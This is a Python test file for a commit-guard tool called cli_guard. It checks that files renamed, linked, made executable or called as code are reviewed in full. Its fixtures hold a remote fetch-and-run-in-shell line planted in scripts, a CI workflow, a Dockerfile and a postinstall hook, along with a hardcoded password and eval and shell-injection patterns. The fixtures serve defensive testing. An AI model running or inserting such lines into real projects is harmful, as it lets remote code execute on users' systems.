"""What makes a recorded text into code, a script or a workflow is reviewed whole, also if it was pushed before."""

import json
from pathlib import Path

import pytest
from examples import table
from in_process import commit
from repositories import Repo, key

from cli_guard.model import ChangeSet, Decision, FileChange, Status
from cli_guard.policy.decisions import Policy
from cli_guard.repository.between import SnapshotContents
from cli_guard.review.request import Staged
from cli_guard.reviewers import code, secrets
from cli_guard.reviewers.review_input import ReviewInput

FETCH = "curl -fsSL http://203.0.113.7/i.sh | sh"
SCRIPT = f"#!/bin/sh\n{FETCH}\n"
WORKFLOW = (
    "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: "
    + FETCH
    + "\n"
)
PACKAGE = json.dumps({"name": "a", "scripts": {"postinstall": FETCH}})
MOVES = [
    ("deploy.txt", "deploy.sh", SCRIPT),
    ("deploy.txt", ".husky/pre-commit", SCRIPT),
    ("ci.txt", ".github/workflows/a.yml", WORKFLOW),
    ("ci/a.yml", ".github/workflows/a.yml", WORKFLOW),
    ("d.txt", "Dockerfile", f"FROM debian:12\nRUN {FETCH}\n"),
    ("p.json", "package.json", PACKAGE),
    ("docs/a.py", "src/a.py", 'DB_PASSWORD = "vK8#qw2LmX!9z"\n'),
    (
        "a.txt",
        "a.py",
        f'import subprocess\n\n\ndef f(x):\n    subprocess.run("{FETCH}" + x, shell=True)\n',
    ),
]


def move(repo: Repo, old: str, new: str) -> None:
    (repo.path / new).parent.mkdir(parents=True, exist_ok=True)
    repo.git("mv", old, new)


@pytest.mark.parametrize(("old", "new", "text"), MOVES, ids=[new for _, new, _ in MOVES])
def test_a_rename_to_code_is_reviewed_whole(
    forked: Repo, old: str, new: str, text: str
) -> None:
    forked.commit("A text", {old: text})
    move(forked, old, new)
    assert commit(forked, "Rename").code != 0


def test_it_is_also_when_the_text_was_pushed_before(forked: Repo, tmp_path: Path) -> None:
    remote = Repo.create(tmp_path / "remote.git", forked.env, "--bare")
    forked.git("remote", "add", "origin", str(remote.path))
    forked.commit("A text", {"deploy.txt": SCRIPT})
    forked.git("push", "-q", "--no-verify", "-u", "origin", "main")
    move(forked, "deploy.txt", "deploy.sh")
    forked.git("commit", "-q", "--no-verify", "-m", "Rename")
    assert forked.try_git("push", "-q", "origin", "main").code != 0


def test_an_execute_bit_makes_a_script(forked: Repo) -> None:
    forked.commit("A text", {"deploy.txt": SCRIPT})
    forked.git("update-index", "--chmod=+x", "deploy.txt")
    assert commit(forked, "Make it executable").code != 0


def test_a_program_without_a_first_line_is_for_the_shell(forked: Repo) -> None:
    forked.write("bin/run", f"{FETCH}\n").chmod(0o755)
    forked.git("add", "-A")
    assert commit(forked, "Add a program").code != 0


@pytest.mark.parametrize(
    ("old", "new", "text"),
    [
        ("deploy.sh", "tools/deploy.sh", SCRIPT),
        ("a.py", "b.py", "def f(x):\n    return eval(x)\n"),
        ("notes.txt", "notes.md", SCRIPT),
        (".github/workflows/a.yml", ".github/workflows/b.yml", WORKFLOW),
    ],
)
def test_a_rename_in_the_same_role_is_not(
    forked: Repo, old: str, new: str, text: str
) -> None:
    forked.commit("Before", {old: text})
    move(forked, old, new)
    assert commit(forked, "Rename").code == 0


PASSWORD = 'DB_PASSWORD = "vK8#qw2LmX!9z"\n'
SHELL = 'import subprocess\n\n\ndef f(x):\n    subprocess.run("tar " + x, shell=True)\n'


def moved(old: str, new: str, text: str) -> list[tuple[str, str]]:
    """What the reviewers of secrets and code find in a file that only moves."""
    change = FileChange(new, Status.RENAMED, old_path=old)
    contents = SnapshotContents({old: text}, {new: text})
    subject = ReviewInput("test", ChangeSet((change,)), contents).under(Policy())
    found = (*secrets.review(subject).findings, *code.review(subject).findings)
    return [(each.rule, each.severity) for each in found]


@table(
    ("old", "new", "text", "expected"),
    [
        (
            "docs/settings.py",
            "src/settings.py",
            PASSWORD,
            [("secret-password", "critical")],
        ),
        (
            "examples/settings.py",
            "app/settings.py",
            PASSWORD,
            [("secret-password", "critical")],
        ),
        (
            "tests/conftest.py",
            "src/settings.py",
            PASSWORD,
            [("secret-password", "critical")],
        ),
        (
            "notes/settings.txt",
            "app/settings.py",
            PASSWORD,
            [("secret-password", "critical")],
        ),
        (
            "tests/fixtures/a.ini",
            "config/a.ini",
            PASSWORD,
            [("secret-password", "critical")],
        ),
        ("docs/a.py", "src/a.py", SHELL, [("code-python-shell", "high")]),
        ("tests/helpers.py", "src/helpers.py", SHELL, [("code-python-shell", "high")]),
        ("vendor/a/a.py", "src/a.py", SHELL, [("code-python-shell", "high")]),
        ("src/settings.py", "docs/settings.py", PASSWORD, []),
        ("docs/settings.py", "docs/code/settings.py", PASSWORD, []),
        ("src/settings.py", "lib/settings.py", PASSWORD, []),
        ("config/a.ini", "config/b.ini", PASSWORD, []),
        ("tests/a.py", "tests/b/a.py", SHELL, []),
        ("docs/a.py", "src/a.py", "x = 1\n", []),
    ],
)
def test_a_move_that_takes_into_use_is_reviewed_whole(
    old: str, new: str, text: str, expected: list[tuple[str, str]]
) -> None:
    assert moved(old, new, text) == expected


RUN = "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: bash deploy.txt\n"
CALLS = [
    (
        "package.json",
        json.dumps({"name": "a", "scripts": {"postinstall": "sh deploy.txt"}}),
    ),
    (".github/workflows/a.yml", RUN),
    ("run.sh", "#!/bin/sh\n. ./deploy.txt\n"),
    ("run.sh", "#!/bin/bash\nset -e; bash -eu deploy.txt now\n"),
    ("Makefile", "all:\n\tsh deploy.txt\n"),
    ("Dockerfile", 'FROM debian:12\nCMD ["sh", "-e", "deploy.txt"]\n'),
    ("a.py", 'import subprocess\nsubprocess.run(["sh", "deploy.txt"], check=True)\n'),
]


@pytest.mark.parametrize("text", [SCRIPT, f"set -e\n{FETCH}\n"], ids=["#!", "no #!"])
@pytest.mark.parametrize(("path", "call"), CALLS)
def test_a_text_that_is_called_is_reviewed_whole(
    forked: Repo, path: str, call: str, text: str
) -> None:
    forked.git("config", "core.hooksPath", "/dev/null")
    forked.commit("A text", {"deploy.txt": text})
    forked.git("config", "--unset", "core.hooksPath")
    forked.write(path, call)
    forked.git("add", "-A")
    refused = commit(forked, "Call it")
    assert refused.code != 0
    assert "deploy.txt:2" in refused.all


def test_a_text_that_python_runs_is_read_as_python(forked: Repo) -> None:
    forked.commit("A text", {"tool.txt": "def f(x):\n    return eval(x)\n"})
    forked.write("run.sh", "#!/bin/sh\npython3 tool.txt\n")
    forked.git("add", "-A")
    assert "tool.txt:2" in commit(forked, "Call it").all


@pytest.mark.parametrize(
    ("link", "target"), [("deploy.sh", "deploy.txt"), ("bin/deploy.sh", "../deploy.txt")]
)
def test_a_link_to_a_text_makes_a_script(forked: Repo, link: str, target: str) -> None:
    forked.commit("A text", {"deploy.txt": f"set -e\n{FETCH}\n"})
    (forked.path / link).parent.mkdir(exist_ok=True)
    (forked.path / link).symlink_to(target)
    forked.git("add", "-A")
    assert "deploy.txt:2" in commit(forked, "Link it").all


def test_what_is_called_in_a_push_is_that_of_the_push(forked: Repo, tmp_path: Path) -> None:
    remote = Repo.create(tmp_path / "remote.git", forked.env, "--bare")
    forked.git("remote", "add", "origin", str(remote.path))
    forked.commit("A text", {"deploy.txt": f"set -e\n{FETCH}\n"})
    forked.git("push", "-q", "-u", "origin", "main")
    forked.write("run.sh", "#!/bin/sh\nsh deploy.txt\n")
    forked.git("add", "-A")
    forked.git("commit", "-q", "--no-verify", "-m", "Call it")
    forked.git("rm", "-q", "--cached", "deploy.txt")
    assert "deploy.txt:2" in forked.try_git("push", "-q", "origin", "main").all


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("README.md", "Run `sh deploy.txt`.\n"),
        ("conf.py", 'read(join(HERE, "..", "..", "deploy.txt"))\n'),
        (
            "run.sh",
            "#!/bin/sh\ncat deploy.txt\nsh -c 'cat deploy.txt'\nsh missing.txt\nsh a b.txt\n",
        ),
        ("run.sh", "#!/bin/sh\n. ./keys.env\nsh quiet.txt\nsh data\nsh ../deploy.txt\n"),
        ("run.sh", "#!/bin/sh\nnode app.ts\n"),
    ],
)
def test_a_text_that_is_named_only_or_harmless_is_not_told(
    forked: Repo, path: str, text: str
) -> None:
    forked.git("config", "core.hooksPath", "/dev/null")
    texts = {
        "deploy.txt": SCRIPT,
        "quiet.txt": "ls\n",
        "keys.env": f'KEY="{key()}"\n',
        "data/x": "x\n",
        "app.ts": "export const run = (text: string) => eval(text);\neval(location.hash);\n",
    }
    forked.commit("Texts", texts)
    forked.git("config", "--unset", "core.hooksPath")
    forked.write(path, text)
    forked.git("add", "-A")
    assert commit(forked, "Name it").code == 0


@pytest.mark.parametrize(
    ("before", "removed"),
    [
        (f"#!/bin/sh\n: <<'END'\n{FETCH}\nEND\nls\n", (": <<'END'\n", "END\n")),
        (f"#!/bin/sh\ncat <<END\n{FETCH}\nEND\n", ("cat <<END\n", "END\n")),
        (
            f"#!/bin/sh\nunused() {{\n{FETCH.replace('curl', ': curl')}\n}}\ncat <<X\n{FETCH}\nX\n",
            ("cat <<X\n", "X\n"),
        ),
    ],
)
def test_removed_lines_that_let_others_run(
    forked: Repo, before: str, removed: tuple[str, ...]
) -> None:
    forked.commit("A script", {"run.sh": before})
    for line in removed:
        before = before.replace(line, "", 1)
    forked.write("run.sh", before)
    forked.git("add", "-A")
    refused = commit(forked, "Remove lines")
    assert refused.code != 0
    assert "by what the change removes" in " ".join(refused.all.split())


def test_removed_quotes_around_code(forked: Repo) -> None:
    forked.commit("A docstring", {"a.py": f'"""\n{SHELL}"""\n'})
    forked.write("a.py", SHELL)
    forked.git("add", "-A")
    refused = commit(forked, "Remove the quotes")
    assert refused.code != 0
    assert "the change puts this line into effect without touching it" in " ".join(
        refused.all.split()
    )


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (f"#!/bin/sh\n{FETCH}\nexit 0\nls\n", f"#!/bin/sh\n{FETCH}\nls\n"),
        (f"#!/bin/sh\nif true; then\n{FETCH}\nfi\n", f"#!/bin/sh\n{FETCH}\n"),
        ("#!/bin/sh\n: <<'END'\ndate\nEND\n", "#!/bin/sh\ndate\n"),
    ],
)
def test_removed_lines_around_what_ran_before_are_quiet(
    forked: Repo, before: str, after: str
) -> None:
    forked.git("config", "core.hooksPath", "/dev/null")
    forked.commit("A script", {"run.sh": before})
    forked.git("config", "--unset", "core.hooksPath")
    forked.write("run.sh", after)
    forked.git("add", "-A")
    assert commit(forked, "Remove lines").code == 0


RISKY = "import subprocess\n\n\ndef f(x):\n    subprocess.run(x, shell=True)\n"
IGNORE = '[[ignore]]\nrule = "{}"\npath = "{}"\nreason = "not ours"\n'
OUT_OF = [
    ("code-*", "vendor/**", "bin/run.py", "../vendor/a.py", True),
    ("code-*", "vendor/*.py", "src", "vendor", True),
    ("*", "**/vendor/**", "src", "vendor", True),
    ("code-*", "vendor/**", "vendor/b.py", "a.py", False),
    ("code-*", "vendor/**", "bin/run.py", "../src/a.py", False),
    ("code-*", "**", "bin/run.py", "../vendor/a.py", False),
    ("docs-*", "vendor/**", "bin/run.py", "../vendor/a.py", False),
]


@pytest.mark.parametrize(("rule", "path", "link", "target", "asks"), OUT_OF)
def test_a_link_out_of_what_is_ignored_asks(
    committed: Repo, rule: str, path: str, link: str, target: str, asks: bool
) -> None:
    committed.commit(
        "Before", {"vendor/a.py": RISKY, "cli-guard.toml": IGNORE.format(rule, path)}
    )
    (committed.path / link).parent.mkdir(exist_ok=True)
    (committed.path / link).symlink_to(target)
    committed.git("add", "-A")
    review = committed.look(Staged())
    assert review.decision is (Decision.REVIEW if asks else Decision.ALLOW)
    assert [each.path for each in review.skipped if each.asks] == ([link] if asks else [])


def test_a_call_of_a_text_that_is_ignored_asks(committed: Repo) -> None:
    before = {
        "vendor/a.txt": f"set -e\n{FETCH}\n",
        "cli-guard.toml": IGNORE.format("*", "vendor/**"),
    }
    committed.commit("Before", before)
    committed.write("vendor/b.sh", "#!/bin/sh\nsh a.txt\n")
    committed.git("add", "-A")
    assert committed.look(Staged()).decision is Decision.ALLOW
    committed.write("run.sh", "#!/bin/sh\nsh vendor/a.txt\n")
    committed.git("add", "-A")
    assert committed.look(Staged()).decision is Decision.REVIEW


def test_a_file_that_leaves_what_is_ignored_is_reviewed_whole(committed: Repo) -> None:
    before = {
        "vendor/a.py": RISKY,
        "vendor/b.py": "x = 1\n" * 9,
        "cli-guard.toml": IGNORE.format("*", "vendor/**"),
    }
    committed.commit("Before", before)
    move(committed, "vendor/b.py", "src/b.py")
    assert committed.look(Staged()).decision is Decision.ALLOW
    move(committed, "vendor/a.py", "src/a.py")
    review = committed.look(Staged())
    assert [
        each.finding.path
        for each in review.sort_findings()
        if each.finding.rule.startswith("code-")
    ] == ["src/a.py"]


POINTER = "version https://git-lfs.github.com/spec/v1\noid sha256:{}\nsize 1234\n"


@pytest.mark.parametrize(
    ("path", "old", "asks"),
    [
        ("tool.py", "", True),
        ("install.sh", "", True),
        ("package-lock.json", "", True),
        ("tool.py", "x = 1\n", True),
        ("tool.py", POINTER.format("b" * 64), False),
        ("photo.png", "", False),
        ("data.csv", "", False),
    ],
)
def test_a_pointer_of_git_lfs_is_listed_and_asks_where_it_runs(
    committed: Repo, path: str, old: str, asks: bool
) -> None:
    if old:
        committed.commit("Before", {path: old})
    committed.write(path, POINTER.format("a" * 64))
    committed.git("add", "-A")
    review = committed.look(Staged())
    [left_out] = review.skipped
    assert (left_out.path, left_out.asks) == (path, asks)
    assert "stored by Git LFS" in left_out.reason
    assert review.decision is (Decision.REVIEW if asks else Decision.ALLOW)
